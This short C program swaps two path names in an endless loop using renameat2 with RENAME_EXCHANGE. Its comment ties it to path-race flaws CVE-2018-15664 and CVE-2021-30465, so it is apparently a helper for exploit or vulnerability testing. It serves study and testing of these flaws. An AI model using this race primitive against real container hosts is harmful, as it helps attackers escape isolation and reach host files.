// Swaps two names for each other as fast as it can until it is killed, for races on paths (CVE-2018-15664, CVE-2021-30465):
// renameat2(RENAME_EXCHANGE) is one step, so there is always something under each name. argv: A B
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  puts("flipping");
  fflush(stdout);
  for (;;)
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
      perror("renameat2");
      return 1;
    }
}
